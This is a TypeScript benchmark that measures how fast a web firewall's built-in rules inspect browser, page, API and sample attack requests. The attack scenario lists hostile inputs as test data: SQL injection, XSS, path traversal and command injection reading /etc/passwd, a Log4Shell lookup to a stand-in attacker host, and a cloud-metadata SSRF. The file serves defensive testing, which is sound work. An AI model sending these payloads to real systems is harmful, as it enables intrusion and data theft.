/**
 * Built-in WAF rule set benchmark (`node dist/bench/waf-builtin.js`): nanoseconds per `inspect`
 * call at each paranoia level for a hot cache-hit-like request (static asset, a browser's
 * headers, a few cookies), ordinary page and API requests, and attack-ish requests (a mix of
 * the families). Single-threaded; numbers are for comparing runs on one machine.
 */
import { compileBuiltinRules, type Paranoia, type WafRequest } from '../edge/waf/builtin/index.js';

const MEASURE_MS = Number(process.env.BENCH_MS ?? 1000);
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';

function request(method: string, path: string, query: string, headers: Record<string, string>, body?: string): WafRequest {
  const rawHeaders = Object.entries(headers).flatMap(([k, v]) => [k, v]);
  return { method, path, query, headers, rawHeaders, body: body === undefined ? undefined : Buffer.from(body) };
}

function browser(extra: Record<string, string> = {}): Record<string, string> {
  return {
    host: 'www.example-shop.com',
    connection: 'keep-alive',
    'sec-ch-ua': '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"',
    'sec-ch-ua-mobile': '?0',
    'sec-ch-ua-platform': '"Windows"',
    'user-agent': CHROME,
    accept: '*/*',
    'sec-fetch-site': 'same-origin',
    'sec-fetch-mode': 'no-cors',
    'sec-fetch-dest': 'script',
    referer: 'https://www.example-shop.com/products/42',
    'accept-encoding': 'gzip, deflate, br',
    'accept-language': 'en-US,en;q=0.9',
    cookie: '_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; sid=3f9a1c2e7b4d; locale=en-GB',
    ...extra,
  };
}

const scenarios: Record<string, WafRequest[]> = {
  'hot hit (GET /assets/app.3f2a.js, 14 headers, 4 cookies)': [request('GET', '/assets/app.3f2a.js', '', browser())],
  'page with query (search, utm, consent cookie)': [
    request('GET', '/search', 'q=red+running+shoes&page=2&utm_source=newsletter&utm_medium=email', browser({
      cookie: '_ga=GA1.2.1234567890.1700000000; OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jan+15+2024+10%3A00%3A00+GMT%2B0100&version=202310.1.0&groups=C0001%3A1%2CC0002%3A1; session=eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjQyfQ.c2lnbmF0dXJl',
    })),
    request('GET', '/search', "q=O'Brien+%26+Sons&sort=-price", browser()),
  ],
  'API POST JSON (1 KiB)': [
    request('POST', '/api/v1/orders', '', browser({ 'content-type': 'application/json' }), JSON.stringify({
      items: [{ sku: 'A-100', qty: 2 }, { sku: 'B-7', qty: 1 }],
      shipping: { name: "Seán O'Connor", line1: "12 Rue de l'Église", city: 'Paris', zip: '75004' },
      note: 'Leave at the back door; ring twice. '.repeat(20),
    })),
  ],
  'attack-ish (mixed families)': [
    request('GET', '/product.php', "id=1'+OR+'1'%3D'1", browser()),
    request('GET', '/search', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', browser()),
    request('GET', '/download', 'file=..%2f..%2f..%2fetc%2fpasswd', browser()),
    request('GET', '/ping', 'ip=127.0.0.1%3Bcat+%2Fetc%2Fpasswd', browser()),
    request('GET', '/', '', browser({ 'user-agent': '${jndi:ldap://evil.example/a}' })),
    request('GET', '/fetch', 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F', browser()),
    request('GET', '/', '', browser({ 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' })),
    request('GET', '/news', 'id=-1+UNION+ALL+SELECT+NULL%2CNULL%2C%40%40version--', browser()),
  ],
};

function measure(inspect: (r: WafRequest) => unknown, requests: WafRequest[]): number {
  const budget = BigInt(MEASURE_MS) * 1_000_000n;
  for (let i = 0; i < 20_000; i++) inspect(requests[i % requests.length]!);
  let calls = 0;
  const start = process.hrtime.bigint();
  let elapsed = 0n;
  while (elapsed < budget) {
    for (let i = 0; i < 1000; i++) inspect(requests[(calls + i) % requests.length]!);
    calls += 1000;
    elapsed = process.hrtime.bigint() - start;
  }
  return Number(elapsed) / calls;
}

const levels: Paranoia[] = [1, 2, 3];
const sets = levels.map((p) => compileBuiltinRules(p));
const rows: string[][] = [['scenario', ...levels.map((p) => `p${p} ns/call`)]];
for (const [name, requests] of Object.entries(scenarios)) {
  rows.push([name, ...sets.map((set) => measure((r) => set.inspect(r), requests).toFixed(0))]);
}
const widths = rows[0]!.map((_, c) => Math.max(...rows.map((r) => r[c]!.length)));
for (const row of rows) console.log(row.map((cell, c) => (c === 0 ? cell.padEnd(widths[c]!) : cell.padStart(widths[c]!))).join('  '));
